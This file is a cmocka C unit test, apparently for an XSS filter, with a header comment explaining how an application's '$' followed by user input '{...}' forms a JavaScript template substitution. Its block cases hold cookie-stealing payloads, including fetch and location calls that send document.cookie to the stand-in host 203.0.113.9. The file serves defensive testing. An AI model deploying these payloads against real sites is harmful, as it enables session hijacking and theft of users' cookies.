/* review24 (session 32), round s on main fb8d351: xss, the twin of
 * review24-main's shell finding. In a JavaScript template literal the
 * application writes a currency sign and the input follows: `Total: $` +
 * `{alert(document.cookie)}` is the substitution ${...}, which runs --
 * allowed (an input that holds the whole `${alert(1)}` fires). Run here:
 * node ran console.log in `Total: ${console.log("RAN")}`. Twins: "12.50",
 * "{5 items}" inside a double-quoted string stay allowed.
 */
#include "agent_xss_test.h"

static void a_template_substitution_begun_by_the_applications_dollar_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>var s = `Total: $", "{alert(document.cookie)}", "`;</script>"},
	    {"<script>var s = `Total: $", "{fetch('//203.0.113.9/'+document.cookie)}",
	     " USD`;</script>"},
	    {"<script>render(`<b>Price: $", "{location='//203.0.113.9/?'+document.cookie}",
	     "</b>`)</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_price_after_the_dollar_is_allowed(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>var s = `Total: $", "12.50", "`;</script>"},
	    {"<script>var s = \"Total: $", "{5 items}", "\";</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_template_substitution_begun_by_the_applications_dollar_fires),
	    cmocka_unit_test(a_price_after_the_dollar_is_allowed),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
